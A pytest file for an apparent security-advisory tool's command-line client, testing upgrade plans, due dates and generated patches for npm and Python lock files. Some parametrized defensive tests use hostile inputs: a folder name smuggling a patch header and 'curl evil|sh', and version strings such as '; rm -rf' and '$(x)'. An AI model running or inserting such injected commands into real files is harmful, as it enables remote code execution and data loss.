from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.faces.operator.conftest import (
    EVIDENCE,
    MINIMIST,
    Coordinator,
    Operator,
    lock,
    record,
    revised,
)
from tidegate.engines.formats.advisories.record import (
    Justification,
    Product,
    Remedy,
    RemedyKind,
    Span,
    Status,
    VendorStatement,
)
from tidegate.faces.operator import main
from tidegate.faces.operator.patching import _header, folder_of


def _bom(*components: dict[str, str]) -> dict[str, Any]:
    return {
        "bomFormat": "CycloneDX",
        "specVersion": "1.5",
        "version": 1,
        "components": [{"type": "library", **one} for one in components],
    }


def test_an_affected_package_has_its_change_and_its_day(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    assert operator.does("plan") == 1
    assert "1.2.6 (proof silenced, variants silenced)" in operator.said
    (item,) = operator.asks("plan")["items"]
    assert (item["certainty"], item["change"]["to"]) == ("affected", "1.2.6")
    day = datetime.now(UTC).date() + timedelta(days=60)
    assert item["due"]["on"] == str(day)


def test_exposure_decides_on_the_day(operator: Operator, coordinator: Coordinator) -> None:
    coordinator.publish(record())
    operator.does("pull")
    quiet = operator.asks("plan")["items"][0]["due"]["on"]
    operator.configures('exposed = "no"', 'exposed = "yes"')
    open_ = operator.asks("plan")["items"][0]["due"]["on"]
    assert open_ < quiet


def test_without_decisions_no_day_is_told_and_it_is_said_what_is_missing(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record(decisions=()))
    operator.does("pull")
    (item,) = operator.asks("plan")["items"]
    assert item["due"]["on"] is None
    assert "in_kev" in item["due"]["words"]
    operator.does("plan")
    assert "no day can be told" in operator.said


def test_a_day_counts_from_when_it_was_found_first(
    operator: Operator, coordinator: Coordinator, monkeypatch: pytest.MonkeyPatch
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    first = operator.asks("plan")["items"][0]["due"]["on"]

    class Later(datetime):
        @classmethod
        def now(cls, tz: object = None) -> datetime:  # type: ignore[override]
            return datetime.now(UTC) + timedelta(days=5)

    monkeypatch.setattr(main, "datetime", Later)
    assert operator.asks("plan")["items"][0]["due"]["on"] == first


@pytest.mark.parametrize(
    ("version", "certainty"),
    [("0.0.8", "affected"), ("1.2.5", "affected"), ("0.0.5", "unknown"), ("x", "unknown")],
)
def test_three_answers(
    operator: Operator, coordinator: Coordinator, version: str, certainty: str
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("bom.json", _bom({"name": "a", "purl": f"pkg:npm/minimist@{version}"}))
    said = operator.asks("plan", "bom.json")
    assert [item["certainty"] for item in said["items"]] == [certainty]
    assert not said["has_nothing_to_do"]


def test_nothing_to_do_is_said_only_where_everything_was_answered(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("package-lock.json", lock("1.2.6"))
    assert operator.does("plan") == 0
    assert "Nothing to do: 1 component was compared." in operator.said
    operator.has("bom.json", _bom({"name": "curl", "version": "8"}))
    assert operator.does("plan", "bom.json") == 1
    assert "no-package-url" in operator.said


def test_before_the_first_pull_nothing_is_answered(operator: Operator) -> None:
    assert operator.does("plan") == 2
    assert "pull" in operator.complained


@pytest.mark.parametrize("content", ["", "\x00\x01", "{}", '{"a": 1}'])
def test_a_file_that_cannot_be_read_is_not_unaffected(
    operator: Operator, coordinator: Coordinator, content: str
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("bom.json", content)
    assert operator.does("plan", "bom.json") == 1
    assert "Not looked at" in operator.said


def test_a_pattern_that_finds_nothing_is_told(operator: Operator, coordinator: Coordinator) -> None:
    operator.does("pull")
    assert operator.does("plan", "sbom/*.json") == 1
    assert "sbom/*.json" in operator.said


def test_what_should_have_been_renewed_is_no_ground_for_nothing_to_do(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.repository.timestamp.expires = datetime.now(UTC).replace(microsecond=0) - timedelta(
        hours=1
    )
    coordinator.repository.update_timestamp()
    coordinator.publish(record())
    coordinator.repository.timestamp.expires -= timedelta(hours=1)
    operator.configures("late_days = 0", "late_days = 2")
    assert operator.does("pull") == 0
    operator.has("package-lock.json", lock("1.2.6"))
    assert operator.does("plan") == 1
    assert "It should have been renewed" in operator.said
    assert operator.does("status") == 1


def test_a_withdrawn_advisory_asks_for_nothing(
    operator: Operator, coordinator: Coordinator
) -> None:
    first = record()
    coordinator.publish(first)
    operator.does("pull")
    operator.does("plan")
    coordinator.publish(
        revised(first, withdrawn_at=datetime.now(UTC), withdrawn_because="It is none.")
    )
    operator.does("pull")
    assert operator.does("plan") == 0


def test_a_fixed_version_that_another_advisory_holds_is_not_offered(
    operator: Operator, coordinator: Coordinator
) -> None:
    other = record("TG-2026-oooo2222", fixed="1.2.8")
    other = replace(
        other,
        products=(
            Product(
                "vendor",
                "minimist",
                "pkg:npm/minimist",
                affected=(Span("1.2.6", "1.2.8", is_fixed=True, evidence=EVIDENCE),),
            ),
        ),
    )
    coordinator.publish(record(), other)
    operator.does("pull")
    (item,) = operator.asks("plan")["items"]
    assert item["change"]["to"] == "1.2.8"


def test_without_a_fix_it_is_said_what_helps_or_that_nothing_does(
    operator: Operator, coordinator: Coordinator
) -> None:
    open_ = Product(
        "vendor",
        "minimist",
        "pkg:npm/minimist",
        affected=(Span("0.0.8", None, is_fixed=False, evidence=EVIDENCE),),
    )
    helps = Remedy(RemedyKind.WORKAROUND, "Freeze the prototype.", "pkg:npm/minimist")
    first = record(products=(open_,), remedies=(helps,), fixes=())
    coordinator.publish(first)
    operator.does("pull")
    change = operator.asks("plan")["items"][0]["change"]
    assert (change["doing"], change["words"]) == ("mitigate", "Freeze the prototype.")
    coordinator.publish(revised(first, remedies=()))
    operator.does("pull")
    assert operator.asks("plan")["items"][0]["change"]["doing"] == "wait"


def test_a_vendor_who_says_not_affected_is_quoted_and_deletes_nothing(
    operator: Operator, coordinator: Coordinator
) -> None:
    said = VendorStatement(
        "vendor",
        "pkg:npm/minimist",
        Status.NOT_AFFECTED,
        Justification.NOT_EXECUTED,
        "",
        datetime.now(UTC),
    )
    coordinator.publish(record(statements=(said,)))
    operator.does("pull")
    (item,) = operator.asks("plan")["items"]
    assert item["certainty"] == "affected"
    assert "vendor says" in item["notes"][0]


def test_a_product_that_has_no_order_here_is_unknown_where_it_is_installed(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record("TG-2026-gggg2222", purl="pkg:generic/acme/gateway"))
    operator.does("pull")
    operator.has("bom.json", _bom({"name": "gateway", "purl": "pkg:generic/acme/gateway@7"}))
    (item,) = operator.asks("plan", "bom.json")["items"]
    assert (item["certainty"], item["advisory"]) == ("unknown", "TG-2026-gggg2222")


def test_nothing_that_came_moves_the_cursor(operator: Operator, coordinator: Coordinator) -> None:
    coordinator.publish(record(exploited="yes\x1b[2J\u202e"))
    operator.does("pull")
    operator.has("bom.json", _bom({"name": "a\x1b[2J", "purl": "pkg:npm/minimist@1.0.0\x07"}))
    operator.does("plan", "bom.json")
    assert "\x1b" not in operator.said
    assert "\x07" not in operator.said
    assert "\u202e" not in operator.said


def test_nothing_is_imported_that_a_small_client_does_not_have() -> None:
    code = (
        "import sys, tidegate.faces.operator.main;"
        "print([one for one in ('django', 'numpy', 'typer', 'rich', 'requests', 'sqlalchemy')"
        " if one in sys.modules])"
    )
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "[]"


def _applied(operator: Operator, name: str) -> str:
    """Print the patch, apply it with `git apply`, and return the file."""
    operator.does("plan", name, "--patch")
    done = subprocess.run(
        ["git", "apply", "-p1", "-"],
        input=operator.said,
        cwd=operator.folder,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return (operator.folder / name).read_text(encoding="utf-8")


def test_a_patch_of_a_package_lock_applies_and_leaves_what_is_not_known_out(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    document = json.loads(_applied(operator, "package-lock.json"))
    assert document["packages"]["node_modules/minimist"] == {"version": "1.2.6"}
    assert "npm install --package-lock-only" in operator.complained.replace("\n", " ")
    assert operator.does("plan") == 0


def test_a_version_that_somebody_else_does_not_take_is_left_and_named(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("package-lock.json", lock("1.2.0", asked="1.2.0"))
    operator.does("plan", "package-lock.json", "--patch")
    assert operator.said == ""
    assert "package.json asks for '1.2.0'" in operator.complained.replace("\n", " ")


def test_version_two_of_a_lock_is_patched_in_both_of_its_forms(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    document = lock("1.2.0") | {"lockfileVersion": 2}
    document["dependencies"] = {"minimist": {"version": "1.2.0", "integrity": "sha512-AAAA"}}
    operator.has("package-lock.json", document)
    after = json.loads(_applied(operator, "package-lock.json"))
    assert after["dependencies"]["minimist"] == {"version": "1.2.6"}


def test_a_lock_that_npm_did_not_write_is_not_rewritten(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("package-lock.json", json.dumps(lock("1.2.0")))
    operator.does("plan", "package-lock.json", "--patch")
    assert operator.said == ""
    assert "npm install minimist@1.2.6" in operator.complained.replace("\n", " ")


@pytest.mark.parametrize("ending", ["\n", ""])
def test_a_patch_of_requirements_keeps_all_but_the_pin_and_its_hashes(
    operator: Operator, coordinator: Coordinator, ending: str
) -> None:
    coordinator.publish(record("TG-2026-pppp2222", purl="pkg:pypi/minimist", fixed="1.2.6"))
    operator.does("pull")
    text = (
        "# ours\n"
        "idna==3.1 \\\n    --hash=sha256:aaaa\n"
        'Minimist[all]==1.2.0 ; python_version > "3" \\\n'
        "    --hash=sha256:bbbb \\\n    --hash=sha256:cccc  # why\n"
        f"minimist-other==1.2.0{ending}"
    )
    operator.has("requirements.txt", text)
    after = _applied(operator, "requirements.txt")
    assert after == (
        "# ours\n"
        "idna==3.1 \\\n    --hash=sha256:aaaa\n"
        'Minimist[all]==1.2.6 ; python_version > "3"  # why\n'
        f"minimist-other==1.2.0{ending}"
    )
    assert "--generate-hashes" in operator.complained


def test_locks_that_only_their_tool_can_write_have_its_command(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record("TG-2026-pppp2222", purl="pkg:pypi/minimist", fixed="1.2.6"))
    operator.does("pull")
    operator.has(
        "uv.lock",
        'version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "minimist"\n'
        'version = "1.2.0"\nsource = { registry = "https://pypi.org/simple" }\n',
    )
    operator.does("plan", "uv.lock", "--patch")
    assert operator.said == ""
    assert "uv lock --upgrade-package minimist==1.2.6" in operator.complained.replace("\n", " ")


def test_paths_of_a_patch_begin_in_one_folder_and_never_lead_out_of_it() -> None:
    here = Path("/home/a")
    one, two = here / "x" / "package-lock.json", Path("/srv/app/y/requirements.txt")
    assert folder_of([one], here) == here
    assert folder_of([two], here) == two.parent
    assert folder_of([two, Path("/srv/app/z.txt")], here) == Path("/srv/app")
    assert folder_of([one, two], here) == Path("/")
    # Not below: only its name begins alike.
    assert folder_of([Path("/home/ab/c.txt")], here) == Path("/home/ab")


@pytest.mark.parametrize("named", ["{place}", "../elsewhere/it's/package-lock.json"])
def test_a_patch_of_a_file_elsewhere_says_what_to_run_and_that_works(
    operator: Operator, coordinator: Coordinator, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    place = operator.folder / "elsewhere" / "it's" / "package-lock.json"
    place.parent.mkdir(parents=True)
    (operator.folder / "package-lock.json").rename(place)
    (operator.folder / "desk").mkdir()
    monkeypatch.chdir(operator.folder / "desk")
    operator.does("plan", named.format(place=place), "--patch")
    assert "--- a/package-lock.json\n" in operator.said
    words = " ".join(operator.complained.split())
    assert f"{place}: " in words
    (line,) = re.findall(r"To apply what was printed: (patch .*) < FILE", words)
    command = shlex.split(line)
    assert command == ["patch", "-p1", "-d", str(place.parent)]
    subprocess.run(command, input=operator.said, text=True, check=True, capture_output=True)
    assert json.loads(place.read_text())["packages"]["node_modules/minimist"]["version"] == "1.2.6"


@pytest.mark.parametrize(
    "folder",
    [
        "x\n--- a/etc/passwd\n+++ b/home/.bashrc\n@@ -0,0 +1 @@\n+curl evil|sh\n",
        "tab\tand\rmore\x1b[2J\x7f",
        'quoted"\\n',
        "größe \u202e\u2028",
        "with blanks",
        os.fsdecode(b"no\xfftext"),
    ],
)
def test_the_name_of_a_folder_is_never_more_than_a_name_in_a_patch(
    operator: Operator, coordinator: Coordinator, folder: str
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    name = f"{folder}/package-lock.json"
    (operator.folder / name).parent.mkdir(parents=True)
    operator.has(name, lock("1.2.0"))
    untouched = sorted(operator.folder.rglob("*"))
    document = json.loads(_applied(operator, name))
    assert document["packages"]["node_modules/minimist"] == {"version": "1.2.6"}
    assert sorted(operator.folder.rglob("*")) == untouched
    operator.does("plan", name, "--patch")
    assert operator.said == ""


def test_the_name_in_a_patch_is_what_git_writes() -> None:
    assert _header("a/package-lock.json") == "a/package-lock.json"
    assert _header("a/b c") == "a/b c\t"
    assert _header('a/"\n\\ä\x01') == '"a/\\"\\n\\\\\\303\\244\\001"'


@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
def test_what_only_python_takes_for_the_end_of_a_line_ends_none_in_a_patch(
    operator: Operator, coordinator: Coordinator, sign: str
) -> None:
    coordinator.publish(record("TG-2026-pppp2222", purl="pkg:pypi/minimist", fixed="1.2.6"))
    operator.does("pull")
    text = f"# a{sign}--- a/b\nminimist==1.2.0\n# c{sign}d\n"
    (operator.folder / "requirements.txt").write_bytes(text.encode())
    _applied(operator, "requirements.txt")
    after = (operator.folder / "requirements.txt").read_bytes()
    assert after == text.replace("1.2.0", "1.2.6").encode()


def test_one_is_told_of_an_asset_that_is_not_there(
    operator: Operator, coordinator: Coordinator
) -> None:
    operator.does("pull")
    assert operator.does("plan", "--asset", "nowhere") == 2
    assert "configured are web" in operator.complained


def test_an_advisory_is_one_item_for_each_place_that_it_is_installed_at(
    operator: Operator, coordinator: Coordinator
) -> None:
    coordinator.publish(record())
    operator.does("pull")
    operator.has("other-lock.json", lock("1.2.1"))
    said = operator.asks("plan", "package-lock.json", "other-lock.json")
    assert sorted(item["version"] for item in said["items"]) == ["1.2.0", "1.2.1"]
    assert {item["advisory"] for item in said["items"]} == {MINIMIST}


@pytest.mark.parametrize(
    "version", ["1.2.6\n--index-url http://host", "1.2.6 ; rm -rf", "", "$(x)"]
)
def test_a_version_that_is_more_than_one_goes_into_no_file(
    operator: Operator, coordinator: Coordinator, version: str
) -> None:
    purl = "pkg:pypi/minimist"
    remedy = Remedy(RemedyKind.VENDOR_FIX, "Update.", purl, version)
    open_ = Product(
        "v", "m", purl, affected=(Span("0.0.8", None, is_fixed=False, evidence=EVIDENCE),)
    )
    coordinator.publish(record(products=(open_,), remedies=(remedy,), fixes=()))
    operator.does("pull")
    operator.has("requirements.txt", "minimist==1.2.0\n")
    assert operator.does("plan", "requirements.txt", "--patch") == 1
    assert operator.said == ""
